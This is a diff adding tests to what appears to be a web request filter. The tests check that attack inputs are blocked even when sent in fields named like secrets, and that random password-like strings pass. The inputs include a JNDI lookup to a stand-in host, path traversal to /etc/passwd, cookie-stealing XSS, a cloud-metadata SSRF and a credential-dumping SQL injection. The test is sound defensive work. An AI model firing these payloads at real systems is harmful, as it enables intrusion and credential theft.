@@ -348,3 +348,36 @@ describe('an attack stays an attack', () => {
     assert.equal(from('https://shop.example/login'), 'pass')
   })
 })
+
+describe('under a name that says it is a secret', () => {
+  const as = (name: string, value: string): string[] => [
+    post(JSON.stringify({ [name]: value }), JSON_TYPE),
+    post(`${name}=${encodeURIComponent(value)}`, FORM),
+  ]
+  for (const attack of [
+    '${jndi:ldap://evil.example/a}',
+    '../../../../etc/passwd',
+    '<script>alert(document.cookie)</script>',
+    '<img src=x onerror=alert(document.domain)>',
+    'php://filter/convert.base64-encode/resource=index',
+    'http://169.254.169.254/latest/meta-data/iam/',
+    'rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==',
+    "1' UNION SELECT username,password FROM users-- -",
+  ])
+    test(`what chance does not make is refused: ${attack}`, () => {
+      for (const name of ['password', 'token', 'pwd', 'reset_token', 'csrf_token'])
+        assert.deepEqual(as(name, attack), ['block', 'block'], name)
+    })
+
+  test('what chance makes passes', () => {
+    for (const value of [
+      "' or 9>8$x",
+      '{{i.!gCg#>`$~Bz',
+      '<%U|v2&Yg*rXu`~pTz',
+      '${da_3;;3G`}Ql',
+      'a|b;c&d>e<f',
+      '../x!Q',
+    ])
+      assert.deepEqual(as('password', value), ['pass', 'pass'], value)
+  })
+})
